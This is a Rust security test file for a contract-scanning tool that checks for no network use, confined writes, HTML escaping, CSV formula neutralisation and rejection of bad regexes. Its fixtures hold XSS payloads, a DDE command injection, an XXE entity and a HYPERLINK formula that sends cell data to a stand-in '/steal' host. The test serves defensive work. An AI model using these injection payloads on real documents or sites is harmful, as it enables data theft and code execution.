//! Security properties of the real binary: it makes no network requests (traced), writes nothing
//! but the output it is asked for, escapes document text in HTML and neutralises formulas in CSV
//! (with adversarial text and file names), and refuses a custom library with a bad pattern, naming
//! the file and line, before anything is run.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, SystemTime};

use crate::common::root;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_aiassure"))
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// A folder of inputs that invite network access: remote images, stylesheets and scripts in
/// HTML, an external entity and external links in a DOCX, URLs in text; plus the example bids.
fn inviting_inputs(dir: &Path) {
    std::fs::write(
        dir.join("remote.html"),
        r#"<html><head><link rel="stylesheet" href="http://192.0.2.1/s.css"><script src="https://192.0.2.1/x.js"></script></head>
<body><img src="http://192.0.2.1/pixel.gif"><iframe src="https://example.com/"></iframe>
<p>The Supplier shall not use Buyer Data to train any artificial intelligence model. See <a href="https://example.com/policy">policy</a>.</p></body></html>"#,
    )
    .expect("write");
    std::fs::write(
        dir.join("links.txt"),
        "Terms at https://example.com/terms and \\\\fileserver\\share\\terms.docx and file:///etc/hosts.\n",
    )
    .expect("write");
    let doc = r#"<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY ext SYSTEM "http://192.0.2.1/e.txt">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>Our chatbot uses a large language model &ext;.</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"#;
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://192.0.2.1/" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="http://192.0.2.1/styles.xml" TargetMode="External"/></Relationships>"#;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (name, body) in [
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", rels),
    ] {
        zip.start_file(name, opts).expect("zip");
        std::io::Write::write_all(&mut zip, body.as_bytes()).expect("zip");
    }
    std::fs::write(
        dir.join("external.docx"),
        zip.finish().expect("zip").into_inner(),
    )
    .expect("write");
    for f in [
        "bids/civic-systems-response.txt",
        "contracts/cloudnote-saas-terms.pdf",
    ] {
        let from = root().join("fixtures/examples").join(f);
        let to = dir.join(Path::new(f).file_name().expect("name"));
        std::fs::copy(from, to).expect("copy an example");
    }
}

/// True when `strace` can trace a child here (it is installed and ptrace is allowed).
fn strace_works() -> bool {
    Command::new("strace")
        .args(["-f", "-e", "trace=network", "-o", "/dev/null", "true"])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// The tool makes no network requests: every command that reads documents runs under
/// `strace -f -e trace=network`, and no socket of an internet family is opened, connected or
/// written to. Where strace cannot run, the commands run in a namespace with no network at all
/// (`unshare -rn`) and must still work.
#[test]
fn makes_no_network_requests() {
    let input = tempfile::tempdir().expect("scratch");
    inviting_inputs(input.path());
    let out = tempfile::tempdir().expect("scratch");
    let i = input.path().to_str().expect("UTF-8");
    let o = |name: &str| out.path().join(name).to_string_lossy().into_owned();
    let index = o("index");
    let commands: Vec<Vec<String>> = vec![
        vec![
            "scan",
            i,
            "--format",
            "html",
            "-o",
            &o("r.html"),
            "--fail-on",
            "never",
        ],
        vec![
            "scan",
            i,
            "--format",
            "json",
            "-o",
            &o("r.json"),
            "--fail-on",
            "never",
        ],
        vec!["extract", i, "--format", "json", "-o", &o("e.json")],
        vec!["index", i, "--index", &index, "-q"],
        vec!["search", "chatbot", "--index", &index],
        vec![
            "redline",
            &format!("{i}/external.docx"),
            "-o",
            &o("red.docx"),
        ],
    ]
    .into_iter()
    .map(|v| v.into_iter().map(String::from).collect())
    .collect();
    let bin = env!("CARGO_BIN_EXE_aiassure");
    if strace_works() {
        // The control: a connection attempt is seen, so a clean trace means something.
        let log = out.path().join("control.log");
        let _ = Command::new("strace")
            .args(["-f", "-qq", "-e", "trace=network", "-o"])
            .arg(&log)
            .args(["bash", "-c", "echo > /dev/tcp/127.0.0.1/9"])
            .output();
        let control = std::fs::read_to_string(&log).unwrap_or_default();
        assert!(
            control.contains("AF_INET") && control.contains("connect("),
            "strace does not show a known connection attempt:\n{control}"
        );
        for args in &commands {
            let log = out.path().join("trace.log");
            let o = Command::new("strace")
                .args(["-f", "-qq", "-e", "trace=network", "-o"])
                .arg(&log)
                .arg(bin)
                .args(args)
                .output()
                .expect("strace runs");
            assert!(
                matches!(o.status.code(), Some(0 | 1)),
                "{args:?}: {}",
                text(&o.stderr)
            );
            let trace = std::fs::read_to_string(&log).expect("trace log");
            let calls: Vec<&str> = trace.lines().filter(|l| l.contains('(')).collect();
            for line in &calls {
                assert!(
                    !line.contains("AF_INET") && !line.contains("AF_PACKET"),
                    "{args:?} used the network: {line}"
                );
                assert!(
                    !line.contains("connect(")
                        && !line.contains("sendto(")
                        && !line.contains("sendmsg("),
                    "{args:?}: {line}"
                );
            }
            println!("{}: {} network calls traced", args[0], calls.len());
        }
        return;
    }
    let unshared = Command::new("unshare")
        .args(["-rn", "true"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !unshared {
        crate::common::skip("neither strace nor unshare -rn can run here");
        return;
    }
    for args in &commands {
        let o = Command::new("unshare")
            .args(["-rn", bin])
            .args(args)
            .output()
            .expect("unshare runs");
        assert!(
            matches!(o.status.code(), Some(0 | 1)),
            "{args:?} without a network: {}",
            text(&o.stderr)
        );
    }
    println!("strace unavailable: every command worked in a namespace with no network");
}

/// The only networking code is the listener of `aiassure serve`, which never connects out: no
/// source outside `src/serve/` and its command (`src/cli/serve.rs`) names `std::net`; no source
/// names a client socket or a connection (`TcpStream`, `UdpSocket`, `ToSocketAddrs`,
/// `.connect(`); and the program's own dependencies (the test-only ones left aside) hold no
/// HTTP client, TLS or HTTP/2 crate. A new one fails this test and has to be justified.
#[test]
fn no_networking_code_or_crates() {
    let mut stack = vec![root().join("src")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).expect("src").flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "rs") {
                let src = std::fs::read_to_string(&p).expect("source");
                let rel = p
                    .strip_prefix(root())
                    .unwrap_or(&p)
                    .to_string_lossy()
                    .replace('\\', "/");
                let server = rel.starts_with("src/serve/") || rel == "src/cli/serve.rs";
                if !server {
                    assert!(!src.contains("std::net"), "{rel} uses std::net");
                }
                for banned in ["TcpStream", "UdpSocket", "ToSocketAddrs", ".connect("] {
                    assert!(!src.contains(banned), "{rel} uses {banned}");
                }
            }
        }
    }
    // Every package the program itself depends on, through Cargo.lock from [dependencies].
    let manifest: toml::Value =
        toml::from_str(&std::fs::read_to_string(root().join("Cargo.toml")).expect("Cargo.toml"))
            .expect("Cargo.toml parses");
    let lock: toml::Value =
        toml::from_str(&std::fs::read_to_string(root().join("Cargo.lock")).expect("Cargo.lock"))
            .expect("Cargo.lock parses");
    let packages = lock["package"].as_array().expect("packages");
    let deps_of = |name: &str, version: Option<&str>| -> Vec<(String, Option<String>)> {
        packages
            .iter()
            .filter(|p| {
                p["name"].as_str() == Some(name)
                    && version.is_none_or(|v| p["version"].as_str() == Some(v))
            })
            .flat_map(|p| {
                p.get("dependencies")
                    .and_then(|d| d.as_array())
                    .cloned()
                    .unwrap_or_default()
            })
            .filter_map(|d| {
                let d = d.as_str()?.to_string();
                let mut parts = d.split(' ');
                let n = parts.next()?.to_string();
                Some((n, parts.next().map(str::to_string)))
            })
            .collect()
    };
    let mut todo: Vec<(String, Option<String>)> = manifest["dependencies"]
        .as_table()
        .expect("[dependencies]")
        .iter()
        .map(|(name, spec)| {
            let package = spec.get("package").and_then(|p| p.as_str()).unwrap_or(name);
            (package.to_string(), None)
        })
        .collect();
    let mut seen = std::collections::BTreeSet::new();
    while let Some((name, version)) = todo.pop() {
        if !seen.insert((name.clone(), version.clone())) {
            continue;
        }
        todo.extend(deps_of(&name, version.as_deref()));
    }
    let names: std::collections::BTreeSet<&str> = seen.iter().map(|(n, _)| n.as_str()).collect();
    assert!(
        names.contains("axum") && names.contains("lopdf"),
        "the walk found the dependencies"
    );
    for name in [
        "reqwest",
        "ureq",
        "curl",
        "attohttpc",
        "isahc",
        "rustls",
        "native-tls",
        "openssl",
        "h2",
        "hyper-rustls",
        "hyper-tls",
        "fantoccini",
        "webdriver",
        "tokio-tungstenite",
    ] {
        assert!(
            !names.contains(name),
            "the program depends on the networking crate {name}"
        );
    }
}

/// Files under `dir` with their size and modification time.
fn listing(dir: &Path) -> BTreeMap<PathBuf, (u64, SystemTime)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            let meta = std::fs::symlink_metadata(&p).expect("metadata");
            if meta.is_dir() {
                stack.push(p.clone());
            }
            let rel = p.strip_prefix(dir).unwrap_or(&p).to_path_buf();
            out.insert(rel, (meta.len(), meta.modified().expect("mtime")));
        }
    }
    out
}

/// A scan writes only the `-o` file: nothing in the working folder, the input folder, the home
/// folder or the temporary folder; without `-o` it writes nothing at all.
#[test]
fn writes_only_where_asked() {
    let input = tempfile::tempdir().expect("scratch");
    inviting_inputs(input.path());
    let (cwd, home, tmp) = (
        tempfile::tempdir().expect("scratch"),
        tempfile::tempdir().expect("scratch"),
        tempfile::tempdir().expect("scratch"),
    );
    let run = |args: &[&str]| -> Output {
        bin()
            .args(args)
            .current_dir(cwd.path())
            .env("HOME", home.path())
            .env("XDG_CACHE_HOME", home.path().join(".cache"))
            .env("TMPDIR", tmp.path())
            .output()
            .expect("runs")
    };
    let before = [
        listing(input.path()),
        listing(home.path()),
        listing(tmp.path()),
    ];
    let i = input.path().to_str().expect("UTF-8");
    for (args, written) in [
        (
            vec!["scan", i, "--format", "json", "--fail-on", "never"],
            None,
        ),
        (vec!["scan", i, "--fail-on", "never", "-j", "2"], None),
        (vec!["extract", i, "--format", "json"], None),
        (
            vec![
                "scan",
                i,
                "--format",
                "html",
                "-o",
                "report.html",
                "--fail-on",
                "never",
            ],
            Some("report.html"),
        ),
        (
            vec![
                "scan",
                i,
                "--format",
                "csv",
                "--output",
                "r.csv",
                "--fail-on",
                "never",
            ],
            Some("r.csv"),
        ),
        (vec!["extract", i, "-o", "text.txt"], Some("text.txt")),
    ] {
        let o = run(&args);
        assert!(o.status.success(), "{args:?}: {}", text(&o.stderr));
        let now = listing(cwd.path());
        let names: Vec<String> = now.keys().map(|p| p.display().to_string()).collect();
        match written {
            Some(name) => {
                assert_eq!(names, [name], "{args:?} wrote only its output");
                std::fs::remove_file(cwd.path().join(name)).expect("remove");
            }
            None => {
                assert!(names.is_empty(), "{args:?} wrote {names:?}");
                assert!(!o.stdout.is_empty(), "{args:?} wrote to standard output");
            }
        }
        let after = [
            listing(input.path()),
            listing(home.path()),
            listing(tmp.path()),
        ];
        assert_eq!(
            before, after,
            "{args:?} changed the input, home or temporary folder"
        );
    }
    // A failed run (bad library) writes no report at all, not even an empty one.
    let bad = tempfile::tempdir().expect("scratch");
    std::fs::write(bad.path().join("rules.toml"), "[[rule]\nid = ").expect("write");
    let b = bad.path().to_str().expect("UTF-8");
    let o = run(&["scan", i, "--library", b, "-o", "report.json"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(listing(cwd.path()).is_empty(), "no report after an error");
}

/// Markup and formulas in a bid, and in its file name, stay inert in every report.
#[test]
fn adversarial_text_is_escaped_and_neutralised() {
    let dir = tempfile::tempdir().expect("scratch");
    let bid = "TENDER RESPONSE\n\n\
        Q3 Will artificial intelligence or machine learning be used in the delivery of the service?\n\n\
        Yes <script>alert('bid')</script><img src=x onerror=alert(1)> residents chat with CareBot, an AI chatbot that answers questions using a large language model.\n\n\
        =HYPERLINK(\"http://192.0.2.1/steal?\"&A1,\"Click\") Our AI system uses facial recognition to verify visitors.\n\n\
        +cmd|' /C calc'!A0 The model is trained on resident case notes.\n\n\
        @SUM(1+1) We use automated decision-making to prioritise repairs.\n";
    let names = [
        "=HYPERLINK(\"http-x\").txt",
        "<img src=x onerror=alert(1)>.txt",
        "-2+3 bid.txt",
        "q\" onmouseover=\"alert(1).txt",
        "new\n\n<img src=x onerror=alert(2)>\n\nline`<script>x`.txt",
    ];
    for n in names {
        std::fs::write(dir.path().join(n), bid).expect("write");
    }
    let run = |format: &str| -> String {
        let mut args = vec!["scan", "--format", format, "--fail-on", "never", "-q", "--"];
        args.extend(names);
        let o = bin()
            .args(&args)
            .current_dir(dir.path())
            .output()
            .expect("runs");
        assert!(o.status.success(), "{}", text(&o.stderr));
        text(&o.stdout)
    };
    let json: serde_json::Value = serde_json::from_str(&run("json")).expect("json");
    let quoted = json.to_string();
    assert!(
        quoted.contains("<script>alert('bid')</script>") && quoted.contains("=HYPERLINK("),
        "the hostile text reaches the report as evidence (else this test proves nothing): {quoted}"
    );

    let html = run("html");
    let lower = html.to_lowercase();
    // Escaped text may show the markup; nothing may open an element or leave an attribute.
    for banned in [
        "<script",
        "<img",
        "<iframe",
        "onmouseover=\"",
        "onmouseover='",
    ] {
        assert!(!lower.contains(banned), "HTML report contains raw {banned}");
    }
    assert!(html.contains("&lt;script&gt;"), "document text is escaped");
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;.txt"),
        "file names are escaped"
    );

    // Markdown: markup from a document or a file name appears only inside a code span on its
    // own line (shown as code, never parsed as HTML).
    let md = run("markdown");
    for line in md.lines() {
        for tag in ["<img", "<script"] {
            for (at, _) in line.match_indices(tag) {
                let ticks = line[..at].matches('`').count();
                assert!(ticks % 2 == 1, "raw {tag} in Markdown line {line:?}");
            }
        }
    }
    assert!(
        md.contains("`new  <img src=x onerror=alert(2)>  line'<script>x'.txt`"),
        "a file name with line breaks and backticks stays in one code span:\n{md}"
    );

    let csv = run("csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV row")).collect();
    assert!(rows.len() > 3);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula-like cell {cell:?}"
            );
        }
    }
    let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
    assert!(
        cells.contains(&"'=HYPERLINK(\"http-x\").txt"),
        "file name neutralised"
    );
    assert!(cells.contains(&"'-2+3 bid.txt"));
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with("'=HYPERLINK(\"http://192.0.2.1")
                || c.contains("=HYPERLINK(\"http://192.0.2.1")),
        "the formula in the evidence is kept as text"
    );
}

/// A custom library whose pattern is invalid, or too large to compile safely, is refused with its
/// file and line by `rules --check` and by `scan --library`, and nothing is run.
#[test]
fn bad_patterns_in_a_custom_library_are_rejected_with_file_and_line() {
    let rules =
        std::fs::read_to_string(root().join("fixtures/library-invalid/bad-regex/rules.toml"))
            .expect("fixture");
    let line = rules
        .lines()
        .position(|l| l.contains("re:(checked|reviewed"))
        .expect("the bad pattern")
        + 1;
    for (name, pattern) in [
        ("unclosed", r#"["re:(checked|reviewed"],"#),
        ("huge", r#"["re:(\\w{1000}){1000}"],"#),
        ("backreference", r#"["re:(a)\\1"],"#),
    ] {
        let dir = tempfile::tempdir().expect("scratch");
        let body: Vec<String> = rules
            .lines()
            .enumerate()
            .map(|(i, l)| {
                if i + 1 == line {
                    format!("  {pattern}")
                } else {
                    l.to_string()
                }
            })
            .collect();
        std::fs::write(dir.path().join("rules.toml"), body.join("\n")).expect("write");
        let d = dir.path().to_str().expect("UTF-8");
        let o = bin().args(["rules", "--check", d]).output().expect("runs");
        let err = text(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
        assert!(
            err.contains(&format!("rules.toml:{line}:")) && err.contains("nothing was run"),
            "{name}: file and line in {err}"
        );
        assert!(o.stdout.is_empty(), "{name}: no example was run");
        let report = dir.path().join("report.json");
        let o = bin()
            .args(["scan", "fixtures/examples", "--library", d, "-o"])
            .arg(&report)
            .current_dir(root())
            .output()
            .expect("runs");
        assert_eq!(o.status.code(), Some(2), "{name}");
        assert!(
            text(&o.stderr).contains(&format!("rules.toml:{line}:")),
            "{name}"
        );
        assert!(!report.exists(), "{name}: no scan ran");
    }
}

/// `aiassure serve` listens on loopback and opens no connection of its own: it runs under
/// `strace -f -e trace=network` while a review is created, files that invite network access are
/// uploaded and read, and every report, page and search is fetched; the trace holds accepted
/// connections only (no `connect`, no datagram socket, no address but 127.0.0.1, no send to an
/// address).
#[test]
fn serve_opens_no_outbound_connection() {
    if !strace_works() {
        crate::common::skip("strace cannot run here (apt-get install strace)");
        return;
    }
    let input = tempfile::tempdir().expect("scratch");
    inviting_inputs(input.path());
    let ws = tempfile::tempdir().expect("scratch");
    let log = ws.path().join("trace.log");
    let mut cmd = Command::new("strace");
    cmd.args(["-f", "-qq", "-e", "trace=network", "-o"])
        .arg(&log)
        .arg(env!("CARGO_BIN_EXE_aiassure"))
        .args(["serve", "--port", "0", "--workspace"])
        .arg(ws.path().join("workspace"));
    let mut s = crate::serve::Served::spawn(cmd);
    let review = s.create_review("Network", "auto");
    let mut files: Vec<(String, Vec<u8>)> = std::fs::read_dir(input.path())
        .expect("inputs")
        .flatten()
        .map(|e| {
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read(e.path()).expect("input"),
            )
        })
        .collect();
    files.sort();
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), &b[..])).collect();
    assert_eq!(s.upload(review, &refs).status, 200);
    let (status, _) = s.wait_done(review);
    for format in ["json", "html", "csv", "sarif"] {
        assert_eq!(
            s.get(&format!("/api/reviews/{review}/report?format={format}"))
                .status,
            200
        );
    }
    assert_eq!(s.get(&format!("/reviews/{review}")).status, 200);
    for f in status["files"].as_array().expect("files") {
        assert_eq!(
            s.get(&format!("/reviews/{review}/documents/{}", f["id"]))
                .status,
            200
        );
    }
    let docx = status["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["name"] == "external.docx")
        .expect("the DOCX")["id"]
        .clone();
    s.get(&format!("/api/reviews/{review}/files/{docx}/redline"));
    assert_eq!(s.get("/search?q=chatbot").status, 200);
    // Stop the traced server (its pid leads the first line of the trace), then read the trace.
    let first = std::fs::read_to_string(&log).expect("trace log");
    let pid = first
        .split_whitespace()
        .next()
        .expect("a traced call")
        .to_string();
    let _ = Command::new("kill").arg(&pid).status();
    s.wait_exit(Duration::from_secs(20));
    let trace = std::fs::read_to_string(&log).expect("trace log");
    let calls: Vec<&str> = trace.lines().filter(|l| l.contains('(')).collect();
    assert!(
        calls.iter().any(|l| l.contains("accept")),
        "the trace shows the connections served:\n{trace}"
    );
    for line in &calls {
        assert!(!line.contains("connect("), "serve connected out: {line}");
        assert!(
            !line.contains("SOCK_DGRAM") && !line.contains("AF_PACKET"),
            "serve opened a datagram or raw socket: {line}"
        );
        if line.contains(" bind(") {
            assert!(
                line.contains("127.0.0.1"),
                "serve bound beyond loopback: {line}"
            );
        }
        if line.contains("sendto(") || line.contains("sendmsg(") {
            assert!(
                !line.contains("sin_addr") && !line.contains("sin6_addr"),
                "serve sent to an address: {line}"
            );
        }
    }
    println!("serve: {} network calls traced, none outbound", calls.len());
}
